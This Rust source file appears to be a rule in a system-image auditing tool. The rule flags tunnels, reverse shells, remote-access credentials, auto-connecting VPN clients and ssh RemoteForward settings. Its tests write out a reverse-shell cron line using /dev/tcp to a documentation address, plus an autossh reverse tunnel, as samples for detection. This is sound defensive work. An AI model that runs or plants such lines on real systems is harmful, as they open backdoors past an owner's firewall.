use std::path::{Path, PathBuf};

use amint_types::Severity;
use amint_types::report::Finding;

use crate::facts::commands::{gives_a_shell_away, tunnel};
use crate::facts::jobs::Jobs;
use crate::rule::{finding, finding_at};
use crate::rules::change::without_drop_in;
use crate::{CheckError, Context, RecipeChange, Rule, RuleMeta, Severities, Verdict, glob};

/// Nothing opens a way in from elsewhere.
pub(in crate::rules) struct Tunnels;

static META: RuleMeta = RuleMeta {
    id: "SVC-006",
    title: "nothing opens a tunnel or calls its maker",
    requirements: &["A2", "A11", "MP-G7"],
    rationale: "A tunnel that every instance opens by itself goes around its owner's firewall and gives whoever stands \
                at the other end a way in.",
    remedy: "Remove the tunnel's unit, job, configuration and state; let the owner of an instance set up his own.",
    severities: Severities::public(Severity::Critical, Some(Severity::Medium)),
};

/// State and configuration that exist only where somebody logged in or set a tunnel up.
const STATE: [(&str, &str); 12] = [
    ("/var/lib/tailscale/tailscaled.state", "the login of Tailscale"),
    ("/var/lib/zerotier-one/identity.secret", "the identity of ZeroTier"),
    ("/etc/cloudflared/*.json", "the credentials of cloudflared"),
    ("/root/.cloudflared/*.json", "the credentials of cloudflared"),
    ("/root/.config/ngrok/ngrok.yml", "the configuration of ngrok"),
    ("/home/*/.config/ngrok/ngrok.yml", "the configuration of ngrok"),
    ("/root/.ngrok2/ngrok.yml", "the configuration of ngrok"),
    ("/etc/frp/frpc.*", "the configuration of frp"),
    ("/opt/teamviewer/config/global.conf", "the identity of TeamViewer"),
    ("/etc/anydesk/service.conf", "the identity of AnyDesk"),
    ("/root/.config/rustdesk/RustDesk.toml", "the identity of RustDesk"),
    ("/etc/netbird/config.json", "the login of NetBird"),
];

impl Rule for Tunnels {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &Context<'_>) -> Result<Verdict, CheckError> {
        let mut findings = Vec::new();
        for job in &cx.fact(Jobs::load)?.0 {
            let what = if gives_a_shell_away(&job.command) {
                Some("a shell to somebody elsewhere")
            } else {
                tunnel(&job.command)
            };
            if let Some(what) = what {
                let message = format!("{} opens {what}", job.kind.as_str());
                findings.push(finding_at(message, &job.path, job.line, &job.command));
            }
        }
        for (pattern, what) in STATE {
            for path in glob::expand(cx, pattern)? {
                let has_content = cx
                    .metadata_following(&path)?
                    .is_some_and(|metadata| metadata.is_file() && metadata.bytes > 2);
                if has_content {
                    findings.push(finding(format!("{what} is in the image"), &path));
                }
            }
        }
        private_networks(cx, &mut findings)?;
        forwards_of_users(cx, &mut findings)?;
        Ok(findings.into())
    }

    fn recipe_change(&self, finding: &Finding) -> Option<RecipeChange> {
        without_drop_in(finding)
    }
}

/// Clients of private networks that connect by themselves.
fn private_networks(cx: &Context<'_>, findings: &mut Vec<Finding>) -> Result<(), CheckError> {
    let mut look = |pattern: &str, needs: &[&str], what: &str| -> Result<(), CheckError> {
        for path in glob::expand(cx, pattern)? {
            let text = cx.text(&path)?.unwrap_or_default();
            let line_of = |key: &str| {
                (1_u32..).zip(text.lines()).find(|(_, line)| {
                    let word = line.trim().split([' ', '\t', '=']).next().unwrap_or_default();
                    word.eq_ignore_ascii_case(key)
                })
            };
            let found: Vec<_> = needs.iter().map(|key| line_of(key)).collect();
            if let Some(Some((line, text))) =
                found.iter().find(|one| one.is_some()).filter(|_| found.iter().all(Option::is_some))
            {
                findings.push(finding_at(what, &path, *line, text));
            }
        }
        Ok(())
    };
    for folder in ["/etc/openvpn", "/etc/openvpn/client"] {
        look(&format!("{folder}/*.conf"), &["remote", "client"], "a client of OpenVPN is set up")?;
    }
    look("/etc/wireguard/*.conf", &["Endpoint", "PrivateKey"], "a client of WireGuard is set up")
}

/// `RemoteForward` in the ssh client's configuration of anybody.
fn forwards_of_users(cx: &Context<'_>, findings: &mut Vec<Finding>) -> Result<(), CheckError> {
    let mut files: Vec<PathBuf> = vec![PathBuf::from("/etc/ssh/ssh_config")];
    files.extend(glob::expand(cx, "/etc/ssh/ssh_config.d/*.conf")?);
    files.extend(cx.homes()?.iter().map(|home| home.join(".ssh/config")));
    for path in files {
        for (line, text) in (1_u32..).zip(cx.text(&path)?.unwrap_or_default().lines()) {
            let word = text.trim().split([' ', '\t', '=']).next().unwrap_or_default();
            if word.eq_ignore_ascii_case("RemoteForward") {
                findings.push(finding_at(
                    "every connection of ssh opens a port elsewhere",
                    Path::new(&path),
                    line,
                    text,
                ));
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use crate::testing::Fixture;

    fn image() -> Fixture {
        Fixture::new().file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    }

    #[test]
    fn tunnels_and_their_state_are_found() {
        let unit = "[Service]\nExecStart=/usr/bin/autossh -N -R 2222:localhost:22 x@relay.example\n";
        let enabled = image()
            .file("/etc/systemd/system/t.service", unit)
            .link("../t.service", "/etc/systemd/system/multi-user.target.wants/t.service");
        assert_eq!(enabled.paths("SVC-006"), ["/etc/systemd/system/t.service"]);
        for (path, content) in [
            ("/etc/cron.d/x", "* * * * * root bash -i >& /dev/tcp/203.0.113.5/1 0>&1\n"),
            ("/var/lib/tailscale/tailscaled.state", "{\"x\": 1}"),
            ("/etc/openvpn/client/a.conf", "client\nremote vpn.example 1194\n"),
            ("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = x\n[Peer]\nEndpoint = vpn.example:1\n"),
            ("/root/.ssh/config", "Host x\n  RemoteForward 1 localhost:22\n"),
        ] {
            assert_eq!(image().file(path, content).paths("SVC-006"), [path]);
        }
    }

    #[test]
    fn servers_masked_units_and_empty_state_are_no_tunnels() {
        let unit = "[Service]\nExecStart=/usr/bin/autossh -N -R 2222:localhost:22 x@relay.example\n";
        let fixture = image()
            .file("/usr/lib/systemd/system/t.service", unit)
            .link("../t.service", "/etc/systemd/system/multi-user.target.wants/t.service")
            .link("/dev/null", "/etc/systemd/system/t.service")
            .file("/etc/openvpn/server.conf", "port 1194\nserver 10.8.0.0 255.255.255.0\n")
            .file("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = x\nListenPort = 1\n")
            .file("/var/lib/tailscale/tailscaled.state", "")
            .file("/etc/ssh/ssh_config", "# RemoteForward 1 x\nHost *\n");
        assert!(fixture.is_pass("SVC-006"));
    }
}
